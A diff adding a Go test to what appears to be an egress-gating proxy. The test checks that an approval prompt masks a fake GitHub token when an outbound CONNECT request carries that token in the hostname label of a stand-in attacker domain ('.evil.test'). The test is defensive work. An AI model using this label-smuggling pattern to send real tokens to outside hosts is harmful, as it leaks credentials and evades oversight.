@@ -130,3 +130,32 @@ func TestSessionAsksNameTheServer(t *testing.T) {
 		shapes[server] = per.asked[0].Shape
 	}
 }
+
+// TestSessionAskMasksSecrets: a destination the server chose can carry a
+// secret in a name label; the question (a desktop dialog's text is its
+// argv, which every local user can read) masks it as the gate's
+// questions and the log do, and so is the server's name.
+func TestSessionAskMasksSecrets(t *testing.T) {
+	p := hostilePolicy(t, "mode: enforce\ndefault: ask\nask_fallback: block\nrules: []\n")
+	token := "ghp_" + strings.Repeat("aB3dE5gH7j", 3) + "K9mN0p"
+	per := &hostilePerson{answer: ask.Deny}
+	s, err := OpenSession(SessionConfig{
+		Options: Options{Argv: []string{"/bin/true"}, Dir: t.TempDir(), Policy: p},
+		ID:      "sess-mask", Ask: per, Server: "srv-" + token,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	host := token + ".evil.test"
+	egressRaw(t, s.egress.Addr(), "CONNECT "+host+":443 HTTP/1.1\r\nHost: "+host+":443\r\n\r\n")
+	_ = s.Close()
+	if len(per.asked) != 1 {
+		t.Fatalf("asked %+v, want one question", per.asked)
+	}
+	q := per.asked[0]
+	for field, v := range map[string]string{"target": q.Target, "server": q.Server, "reason": q.Reason} {
+		if strings.Contains(strings.ToLower(v), strings.ToLower(token)) {
+			t.Errorf("the question's %s shows the secret: %q", field, v)
+		}
+	}
+}
